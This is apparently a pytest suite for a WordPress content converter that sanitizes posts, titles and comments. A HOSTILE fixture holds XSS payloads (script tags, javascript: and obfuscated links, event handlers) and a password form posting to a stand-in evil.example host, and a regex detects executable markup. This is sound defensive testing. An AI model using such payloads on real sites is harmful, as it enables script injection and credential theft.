"""WordPress content made safe: paragraphs, block-editor marks, shortcodes, images, and hostile markup."""

import re

import pytest

from ole.text import render_markdown
from series.wordpress.content import comment_text, convert, title_text, wpautop


def no_copies(src):
    return None


def test_classic_content_gets_wordpress_paragraphs_and_line_breaks():
    html = convert("One line\nnext line\n\nSecond paragraph.", resolve_image=no_copies).html
    assert html == "<p>One line<br>\nnext line</p>\n<p>Second paragraph.</p>"


def test_paragraphing_leaves_block_elements_and_preformatted_text_alone():
    html = wpautop("<ul>\n<li>a</li>\n</ul>\n\n<pre>keep\n\nthis</pre>\n\nText")
    assert "<ul>\n<li>a</li>\n</ul>" in html
    assert "<pre>keep\n\nthis</pre>" in html
    assert "<p>Text</p>" in html


def test_block_editor_comments_are_dropped_and_its_paragraphs_kept_as_they_are():
    result = convert("<!-- wp:paragraph -->\n<p>One</p>\n<!-- /wp:paragraph -->", resolve_image=no_copies)
    assert result.html == "<p>One</p>"


def test_a_caption_becomes_a_figure_with_its_caption():
    content = (
        '[caption id="attachment_1" width="300"]<a href="/big.jpg"><img src="https://old.example/a.jpg" alt="A"></a>'
        " The cap[/caption]"
    )
    html = convert(content, resolve_image=lambda src: "/media/imported/a.jpg").html
    assert html == '<figure><img src="/media/imported/a.jpg" alt="A">\n<figcaption>The cap</figcaption>\n</figure>'


@pytest.mark.parametrize(
    ("content", "listed", "link"),
    [
        ("[embed]https://www.youtube.com/watch?v=1[/embed]", "[embed]", "https://www.youtube.com/watch?v=1"),
        ('[audio src="https://old.example/a.mp3"]', "[audio]", "https://old.example/a.mp3"),
        ('[video mp4="https://old.example/v.mp4"][/video]', "[video]", "https://old.example/v.mp4"),
        ('[gallery ids="1,2"]', "[gallery]", None),
        ('[contact-form-7 id="5"]', "[contact-form-7]", None),
        (
            '<!-- wp:embed {"url":"https://vimeo.com/1"} -->\n<figure>x</figure>\n<!-- /wp:embed -->',
            "[embed]",
            "https://vimeo.com/1",
        ),
    ],
)
def test_embeds_become_plain_links_and_other_shortcodes_are_removed_each_listed(content, listed, link):
    result = convert(content, resolve_image=no_copies)
    assert result.removed == [listed]
    assert "[" not in result.html and "<iframe" not in result.html
    if link:
        assert f'href="{link}"' in result.html
    else:
        assert "<a" not in result.html


def test_a_plugins_wrapping_shortcode_goes_but_its_words_stay():
    result = convert("[spoiler title='x']The ending[/spoiler]", resolve_image=no_copies)
    assert result.html == "<p>The ending</p>" and result.removed == ["[spoiler]"]


def test_brackets_in_prose_and_escaped_shortcodes_are_text():
    result = convert("He said [sic] and [[gallery]] is how to write it.", resolve_image=no_copies)
    assert result.html == "<p>He said [sic] and [gallery] is how to write it.</p>"
    assert result.removed == []


def test_a_bare_address_on_its_own_line_becomes_a_link_not_an_embed():
    html = convert("Look:\n\nhttps://www.youtube.com/watch?v=2\n\nEnd", resolve_image=no_copies).html
    assert '<a href="https://www.youtube.com/watch?v=2" rel="noopener noreferrer">' in html


def test_an_image_with_a_copy_here_points_at_the_copy():
    seen = []
    result = convert(
        '<img src="https://old.example/wp-content/uploads/a.jpg" alt="River" width="300" height="200" srcset="x 2x">',
        resolve_image=lambda src: seen.append(src) or "/media/imported/a.jpg",
    )
    assert seen == ["https://old.example/wp-content/uploads/a.jpg"]
    assert result.html == '<p><img src="/media/imported/a.jpg" alt="River" width="300" height="200"></p>'
    assert result.missing == []


def test_an_image_without_a_copy_becomes_a_plain_link_with_its_description_and_is_listed():
    result = convert('<img src="https://old.example/wp-content/uploads/a.jpg" alt="River">', resolve_image=no_copies)
    assert (
        result.html
        == '<p><a href="https://old.example/wp-content/uploads/a.jpg" rel="noopener noreferrer">River</a></p>'
    )
    assert result.missing == ["https://old.example/wp-content/uploads/a.jpg"]


def test_an_image_without_a_description_is_named_by_its_file():
    result = convert('<img src="https://old.example/up/my%20walk.jpg">', resolve_image=no_copies)
    assert ">my walk.jpg</a>" in result.html


def test_a_resolver_pointing_elsewhere_than_the_sites_media_shows_no_picture():
    result = convert('<img src="https://old.example/a.jpg" alt="A">', resolve_image=lambda src: src)
    assert "<img" not in result.html


HOSTILE = """<p>Text <script>alert(1)</script> more.</p>
<p><a href="JaVaScRiPt:alert(2)">a</a> <a href=" javascript:alert(3)">b</a> <a href="&#106;avascript:alert(4)">c</a></p>
<p onclick="alert(5)" style="background:url(https://evil.example/p.png)">para</p>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<svg><script>alert(6)</script><circle onload="alert(7)"/></svg>
<img src="x" onerror="alert(8)"><object data="https://evil.example/x.swf"></object>
<style>body{background:url(https://evil.example/bg.png)}</style><video src="https://evil.example/v.mp4"></video>
[caption id="a" width="1"]<img src="https://evil.example/c.png" alt="cap" onerror="alert(9)">
<script>alert(10)</script>Caption[/caption]
[embed]javascript:alert(11)[/embed] <a href="vbscript:x">v</a> <a href="data:text/html,x">d</a>"""


def executable(html: str) -> list[str]:
    found = re.findall(
        r"<(?:script|iframe|form|input|svg|object|embed|style|video|audio)\b|\son\w+=|javascript:|vbscript:|data:|style=|src=\"(?!/media/)",
        html,
        re.I,
    )
    return found


@pytest.mark.parametrize("paragraphs", [True, False])
def test_hostile_content_leaves_nothing_executable_and_no_request_to_another_host(paragraphs):
    content = HOSTILE if paragraphs else "<!-- wp:html -->" + HOSTILE
    html = convert(content, resolve_image=no_copies).html
    assert executable(html) == []
    assert executable(render_markdown(html)) == []


def test_titles_are_reduced_to_their_words():
    assert title_text("<script>alert(1)</script>Hello <b onmouseover='x'>world</b> &amp; more") == "Hello world & more"


def test_a_comments_html_becomes_plain_text_with_link_addresses_written_out():
    text = comment_text(
        'Hi <em>there</em>.<br/>See <a href="https://a.example/x" onclick="evil()">this</a>.'
        '<p>Two</p><a href="javascript:x">j</a>'
    )
    assert text == "Hi there.\nSee this (https://a.example/x).Two\n\nj"


def test_a_script_or_style_in_a_comment_leaves_no_words_behind():
    text = comment_text("<svg><script>alert(116)</script></svg>Kind <style>p{}</style>words<script>x(")
    assert text == "Kind words"


def test_many_brackets_in_a_long_text_are_handled_in_linear_time():
    # A pattern that backtracks over every bracket would not finish on this text (no timing: it would hang).
    content = "[sic] [1] [a] " * 20000 + "[embed]https://example.org/v[/embed]"
    result = convert(content, resolve_image=no_copies)
    assert result.removed == ["[embed]"]
    assert result.html.count("[sic]") == 20000


@pytest.mark.parametrize(
    "unclosed",
    ["<!-- ", "<pre>", '<!-- wp:embed {"url":"https://a.example/"} -->', '<a href="https://a.example/">'],
)
def test_text_full_of_unclosed_markup_is_read_in_linear_time(unclosed):
    # As above: a backtracking pattern would not finish on this text.
    content = (unclosed + "words ") * 20000
    convert(content, resolve_image=no_copies)
    assert comment_text(content).count("words") in (0, 20000)
